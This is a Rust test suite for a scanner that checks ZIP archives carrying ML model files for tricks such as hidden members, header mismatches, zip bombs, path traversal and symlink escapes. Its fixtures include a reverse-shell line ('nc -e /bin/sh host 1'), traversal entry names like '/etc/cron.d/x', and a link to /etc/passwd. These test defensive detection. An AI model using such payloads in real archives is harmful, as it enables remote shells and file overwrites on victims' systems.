use std::io::Write;

use weighbridge_types::Verdict;

use crate::codec::tar::samples::model;
use crate::codec::zip::samples::{Archive, Member};
use crate::core::testing::{inspect_bytes, rules, survives_damage, verdict};

fn with(member: Member) -> Archive {
    Archive::of(&[Member::deflated("model.nemo", &model()), member])
}

fn hits(archive: &Archive) -> (Verdict, Vec<String>) {
    let outcome = inspect_bytes("archive.zip", &archive.bytes());
    assert!(outcome.is_model, "{:?}", outcome.findings);
    (verdict(&outcome), rules(&outcome).into_iter().map(str::to_owned).collect())
}

#[test]
fn an_archive_with_a_model_holds_one_and_is_clean() {
    let outcome = inspect_bytes("archive.zip", &with(Member::stored("README.md", b"# hello")).bytes());
    assert!(outcome.is_model);
    assert_eq!(verdict(&outcome), Verdict::Clean, "{:?}", outcome.findings);
}

#[test]
fn an_archive_without_a_model_yields_nothing() {
    let archive = Archive::of(&[
        Member::stored("run.sh", b"#!/bin/sh\nnc -e /bin/sh host 1\n"),
        Member::deflated("data.json", br#"{"a": 1}"#),
        Member::stored("a", b"1").but(|m| m.local_name = b"b".into()),
        Member::stored("helper.exe", b"MZ"),
    ]);
    let outcome = inspect_bytes("tools.zip", &archive.bytes());
    assert!(!outcome.is_model);
    assert_eq!(outcome.findings, []);
}

#[test]
fn large_members_of_no_interest_are_not_unpacked() {
    let mut noise = Vec::new();
    let mut state = 1u32;
    for _ in 0..200_000 {
        state = state.wrapping_mul(1_664_525).wrapping_add(1_013_904_223);
        noise.extend_from_slice(&state.to_le_bytes()[2..]);
    }
    let archive = Archive::of(&[Member::deflated("noise.dat", &noise)]).bytes();
    let limits = crate::Limits { expanded_bytes_max: 10_000, ..crate::Limits::default() };
    let input = crate::Input::bytes(archive);
    let outcome = crate::inspect(&input, "a.zip", &crate::Options { deep: false, limits }, &crate::NoContent);
    assert_eq!(outcome.findings, []);
}

#[test]
fn programs_and_scripts_beside_a_model_are_suspicious() {
    for (name, content) in
        [("run.sh", b"#!/bin/sh\necho\n".as_slice()), ("ops.so", b"\x7fELF\x02\x01\x01\0\0\0\0\0\0\0\0\0")]
    {
        let (verdict, rules) = hits(&with(Member::stored(name, content)));
        assert_eq!(verdict, Verdict::Suspicious, "{name}");
        assert!(rules.iter().any(|r| r == "executable-in-model-archive"), "{rules:?}");
    }
}

#[test]
fn software_that_carries_a_model_along_is_clean() {
    let mut members =
        vec![Member::deflated("pkg/model.nemo", &model()), Member::stored("pkg-1.0.dist-info/RECORD", b"x")];
    members.push(Member::stored("pkg/native.so", b"\x7fELF\x02\x01\x01\0\0\0\0\0\0\0\0\0"));
    let outcome = inspect_bytes("pkg-1.0-py3-none-any.whl", &Archive::of(&members).bytes());
    assert!(outcome.is_model);
    assert_eq!(verdict(&outcome), Verdict::Clean, "{:?}", outcome.findings);
}

#[test]
fn what_readers_see_differently_is_suspicious_beside_a_model() {
    let a = || Member::stored("a.txt", b"content");
    let cases: Vec<(&str, Archive)> = vec![
        ("zip-name-mismatch", with(a().but(|m| m.local_name = b"b.txt".into()))),
        ("zip-header-mismatch", with(a().but(|m| m.local_method = 8))),
        ("zip-flag-trick", with(a().but(|m| (m.flags, m.local_flags) = (1, 1)))),
        ("zip-unknown-method", with(a().but(|m| (m.method, m.local_method) = (77, 77)))),
        ("zip-hidden-member", with(a().but(|m| m.in_directory = false))),
        ("zip-overlap", with(Member::stored("copy", &model()).but(|m| m.shares_data = true))),
        ("zip-count-mismatch", with(a()).but(|z| z.count = Some(1))),
    ];
    for (rule, archive) in cases {
        let (verdict, rules) = hits(&archive);
        assert!(rules.iter().any(|r| r == rule), "{rule} not in {rules:?}");
        assert!(verdict >= Verdict::Suspicious, "{rule}");
    }
    let (_, rules) =
        hits(&Archive::of(&[Member::deflated("model.nemo", &model()), a(), Member::stored("a.txt", b"other")]));
    assert!(rules.iter().any(|r| r == "zip-duplicate-name"));
}

#[test]
fn a_wrong_checksum_does_not_keep_a_model_from_being_inspected() {
    let archive =
        Archive::of(&[Member::deflated("model.nemo", &model()).but(|m| m.crc32 ^= 1), Member::stored("b", b"x")]);
    let (verdict, rules) = hits(&archive);
    assert_eq!((verdict, rules), (Verdict::Suspicious, vec!["zip-bad-crc".to_owned()]));
}

#[test]
fn archives_saved_without_checksums_are_honest() {
    let archive = Archive::of(&[Member::stored("model.nemo", &model()).but(|m| m.crc32 = 0)]);
    assert_eq!(hits(&archive).0, Verdict::Clean);
}

#[test]
fn a_flag_that_says_encrypted_does_not_hide_a_model() {
    for member in [Member::stored("model.nemo", &model()), Member::deflated("model.nemo", &model())] {
        let archive = Archive::of(&[member.but(|m| (m.flags, m.local_flags) = (0x41, 0x41))]);
        assert!(hits(&archive).1.contains(&"zip-flag-trick".to_owned()));
    }
}

#[test]
fn real_encryption_is_unknown() {
    let noise: Vec<u8> = (0..100u32).map(|i| i.wrapping_mul(2_654_435_761).to_le_bytes()[2]).collect();
    let member = Member::deflated("x", b"plain").but(|m| {
        m.data = noise;
        (m.flags, m.local_flags) = (1, 1);
    });
    let outcome = inspect_bytes("a.zip", &Archive::of(&[member]).bytes());
    assert_eq!((verdict(&outcome), rules(&outcome)), (Verdict::Unknown, vec!["archive-encrypted"]));
}

#[test]
fn hidden_models_are_found() {
    let hidden = Member::stored("model.nemo", &model()).but(|m| m.in_directory = false);
    for archive in [
        Archive::of(&[Member::stored("a", b"1"), hidden.clone()]),
        Archive::of(&[hidden, Member::stored("a", b"1")]),
        Archive::of(&[Member::stored("a", b"1")]).but(|z| z.suffix = model()),
        Archive::of(&[Member::stored("a", b"1")])
            .but(|z| z.suffix = Archive::of(&[Member::stored("m", &model())]).bytes()),
    ] {
        hits(&archive);
    }
}

#[test]
fn names_that_lead_out_are_malicious_even_without_a_model() {
    for name in ["../../x", "/etc/cron.d/x", "C:\\x", "\\\\host\\x", "..\\..\\x", "a/../../x"] {
        let outcome = inspect_bytes("a.zip", &Archive::of(&[Member::stored(name, b"x")]).bytes());
        assert_eq!(
            (verdict(&outcome), rules(&outcome)),
            (Verdict::Malicious, vec!["archive-path-traversal"]),
            "{name}"
        );
    }
}

#[test]
fn links_that_lead_out_are_malicious_and_others_are_not() {
    let link = |name: &str, target: &str| {
        Member::stored(name, target.as_bytes()).but(|m| m.external_attributes = 0o120_777 << 16)
    };
    let out = inspect_bytes("a.zip", &Archive::of(&[link("w", "/etc/passwd")]).bytes());
    assert_eq!(rules(&out), ["archive-link-escape"]);
    let through = [link("d", "/tmp"), Member::stored("d/x", b"x")];
    assert!(rules(&inspect_bytes("a.zip", &Archive::of(&through).bytes())).contains(&"archive-write-through-link"));
    let framework =
        [Member::stored("F/Versions/A/x", b"x"), link("F/Versions/Current", "A"), link("F/x", "Versions/Current/x")];
    assert_eq!(inspect_bytes("a.zip", &Archive::of(&framework).bytes()).findings, []);
}

#[test]
fn bombs_are_reported_and_not_unpacked() {
    let bomb = Member::deflated("weights.bin", &vec![0; 8 << 20]);
    let outcome = inspect_bytes("a.zip", &Archive::of(&[bomb]).bytes());
    assert_eq!((verdict(&outcome), rules(&outcome)), (Verdict::Suspicious, vec!["archive-bomb"]));
}

#[test]
fn nesting_without_end_is_stopped_and_said() {
    let mut layers = Archive::of(&[Member::stored("a", b"x")]).bytes();
    for _ in 0..100 {
        layers = Archive::of(&[Member::deflated("inner.zip", &layers)]).bytes();
    }
    let outcome = inspect_bytes("a.zip", &layers);
    assert!(rules(&outcome).contains(&"limit-reached"), "{:?}", outcome.findings);
    assert_eq!(verdict(&outcome), Verdict::Unknown);
}

#[test]
fn a_prefix_is_worth_knowing_where_there_is_a_model() {
    let mut archive = with(Member::stored("a", b"x"));
    archive.prefix = b"#!/usr/bin/env python3\n".to_vec();
    for adjusted in [false, true] {
        archive.offsets_adjusted = adjusted;
        assert_eq!(hits(&archive), (Verdict::Clean, vec!["zip-prefix-data".to_owned()]));
    }
}

#[test]
fn a_cut_archive_is_read_as_far_as_it_goes() {
    let whole = with(Member::stored("a", b"x")).bytes();
    let end = memchr::memmem::rfind(&whole, b"PK\x05\x06").unwrap();
    let outcome = inspect_bytes("a.zip", &whole[..end]);
    assert!(outcome.is_model);
    assert_eq!((verdict(&outcome), rules(&outcome)), (Verdict::Unknown, vec!["zip-directory-damaged"]));
}

#[test]
fn every_method_is_unpacked() {
    let mut bzip2 = ::bzip2::write::BzEncoder::new(Vec::new(), ::bzip2::Compression::default());
    bzip2.write_all(&model()).unwrap();
    let bzip2 = bzip2.finish().unwrap();
    let member = Member::stored("m", &model()).but(|m| {
        m.data = bzip2;
        (m.method, m.local_method) = (12, 12);
    });
    assert_eq!(hits(&Archive::of(&[member])), (Verdict::Clean, Vec::new()));
}

#[test]
fn damage_is_survived() {
    survives_damage(
        "a.zip",
        &with(Member::stored("run.sh", b"#!/bin/sh\n")).but(|z| z.comment = b"comment".into()).bytes(),
    );
    survives_damage("a.pt", &with(Member::deflated("b", b"bb").but(|m| m.in_directory = false)).bytes());
}
